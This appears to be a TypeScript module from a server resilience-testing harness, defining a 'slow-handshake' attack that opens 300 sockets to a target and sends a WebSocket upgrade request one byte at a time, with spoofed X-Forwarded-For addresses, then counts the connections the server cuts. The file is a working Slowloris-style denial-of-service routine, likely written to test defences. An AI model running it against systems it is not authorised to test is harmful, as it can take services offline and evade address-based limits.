import { connect } from 'node:net';
import type { Attack } from '../Attack.ts';
import { newAddress } from '../Intruder.ts';
import { pace } from '../pace.ts';

const SLOW_SOCKETS = 300;

/** Shakes hands a byte at a time. */
export const slowHandshake: Attack = {
  name: 'slow-handshake',
  isElsewhere: true,
  isPatient: true,
  async strike(order, _chance, begin) {
    const { hostname, port } = new URL(order.address);
    const head = `GET /x/${order.table} HTTP/1.1\r\nHost: ${hostname}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nX-Forwarded-For: ${newAddress()}\r\n`;
    const began = Date.now();
    let slowest = 0;
    let sent = 0;
    const sockets = Array.from({ length: SLOW_SOCKETS }, () => {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => {});
      socket.on('close', () => {
        slowest = Math.max(slowest, Date.now() - began);
      });
      return socket;
    });
    let byte = 0;
    begin();
    await pace(order.ms, 10, () => {
      for (const socket of sockets)
        if (!socket.destroyed) {
          sent++;
          socket.write(head[byte % head.length] ?? 'x');
        }
      byte++;
    });
    const left = sockets.filter((socket) => !socket.destroyed).length;
    for (const socket of sockets) socket.destroy();
    const cut = SLOW_SOCKETS - left;
    return { sent, sockets: SLOW_SOCKETS, opened: 0, cut, slowestCutMs: slowest, left, refused: 0 };
  },
};
